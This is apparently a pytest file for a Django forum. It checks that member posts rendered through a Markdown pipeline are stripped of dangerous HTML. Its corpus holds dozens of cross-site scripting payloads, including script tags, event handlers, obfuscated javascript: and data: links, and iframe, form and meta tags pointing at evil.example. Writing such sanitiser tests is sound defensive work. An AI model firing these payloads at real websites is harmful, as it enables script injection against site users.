"""What members write is rendered by the one Markdown pipeline and sanitised: no payload
of the corpus survives into the page, and ordinary Markdown does."""

import html
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from community.models import Post
from portal.markdown import render_markdown
from tests.community.conftest import client_for
from tests.community.forums.factories import publish_reply, publish_topic

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.community.forums.urls_for_tests")]

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>survol</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<style>body { display: none }</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<!-- un commentaire --><p>suite</p>",
    "<a href='javascript:alert(1)'>clic</a>",
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](jav&#x61;script:alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](javascript&colon;alert(1))",
    "[clic](java%73cript:alert(1))",
    "[clic](\tjavascript:alert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](DATA:text/html,<script>alert(1)</script>)",
    "[clic](&#100;ata:text/html,x)",
    "![image](javascript:alert(1))",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    '[clic](https://example.org "titre" onclick="alert(1)")',
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=x></form>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
]

ALLOWED_TAGS = {
    "p", "br", "strong", "em", "a", "code", "pre", "ul", "ol", "li", "blockquote",
    "h3", "h4", "h5", "h6", "hr",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Audit(HTMLParser):
    """Every tag, attribute and comment of an HTML fragment, as a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href":
                # The parser already decoded character references, as a browser does.
                cleaned = "".join(ch for ch in (value or "") if ch > " ").lower()
                scheme = urlsplit(cleaned).scheme
                if scheme and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"href scheme {scheme!r}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.problems.append("comment")


def audit(fragment: str) -> list[str]:
    parser = _Audit()
    parser.feed(fragment)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_payload_survives_the_markdown_pipeline(payload):
    assert audit(render_markdown(payload)) == []


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_payload_survives_into_a_stored_post_or_its_page(open_cast, forum, payload):
    topic = publish_topic(forum, open_cast.animator)
    reply = publish_reply(topic, open_cast.member, body=f"Bonjour\n\n{payload}")

    assert audit(reply.body_html) == []
    page = client_for(open_cast.member).get(topic.get_absolute_url()).content.decode()
    start = page.index(f'id="post-{reply.pk}"')
    article = page[start : page.index("</article>", start)]
    body = article[article.index('class="portal-post__body">') :]
    assert audit(body[len('class="portal-post__body">') : body.index("</div>")]) == []


def test_encoded_javascript_link_is_left_as_inert_text():
    rendered = render_markdown("[clic](jav&#x61;script:alert(1))")

    assert "<a" not in rendered
    assert "clic" in html.unescape(rendered)


def test_legitimate_markdown_survives():
    rendered = render_markdown(
        "**gras** et *italique*\n\n"
        "[le portail](https://travail-emploi.gouv.fr/) et <https://example.org>\n\n"
        "- un\n- deux\n\n"
        "3. trois\n4. quatre\n\n"
        "`code` en ligne\n\n"
        "```\nbloc de code\n```\n\n"
        "> une citation\n\n"
        "# Titre\n\n"
        "[écrire](mailto:contact@example.org)"
    )

    assert "<strong>gras</strong>" in rendered and "<em>italique</em>" in rendered
    assert (
        '<a href="https://travail-emploi.gouv.fr/" rel="nofollow ugc noopener">le portail</a>'
        in rendered
    )
    assert '<a href="https://example.org" rel="nofollow ugc noopener">' in rendered
    assert "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>" in rendered
    assert '<ol start="3">' in rendered
    assert "<code>code</code>" in rendered
    assert "<pre><code>bloc de code\n</code></pre>" in rendered
    assert "<blockquote>\n<p>une citation</p>\n</blockquote>" in rendered
    assert "<h3>Titre</h3>" in rendered  # under the page's h1 and the post's h2
    assert 'href="mailto:contact@example.org"' in rendered
    assert audit(rendered) == []


def test_every_link_of_a_post_gets_nofollow_ugc_noopener(open_cast, forum):
    topic = publish_topic(
        forum, open_cast.member, body="[un](https://a.example) [deux](http://b.example)"
    )

    opening = Post.objects.get(topic=topic)

    assert opening.body_html.count('rel="nofollow ugc noopener"') == 2


def test_html_typed_by_a_member_is_shown_as_text(open_cast, forum):
    topic = publish_topic(forum, open_cast.member, body="J'ai tapé <b>ceci</b>")

    assert Post.objects.get(topic=topic).body_html == "<p>J'ai tapé &lt;b&gt;ceci&lt;/b&gt;</p>"
